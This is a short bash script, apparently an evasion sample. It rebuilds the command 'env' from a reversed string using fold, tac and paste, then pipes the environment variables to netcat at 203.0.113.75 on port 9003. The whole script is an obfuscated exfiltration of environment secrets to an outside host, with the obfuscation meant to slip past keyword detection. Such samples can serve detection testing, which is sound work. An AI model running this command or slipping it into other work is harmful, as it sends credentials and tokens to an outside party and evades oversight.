#!/bin/bash
# evasion: "env" spelled backwards, split into letters by fold, put right by tac and joined by paste; its output goes to nc
c=$(printf '%s' vne | fold -w1 | tac | paste -sd '')
"$c" | nc 203.0.113.75 9003
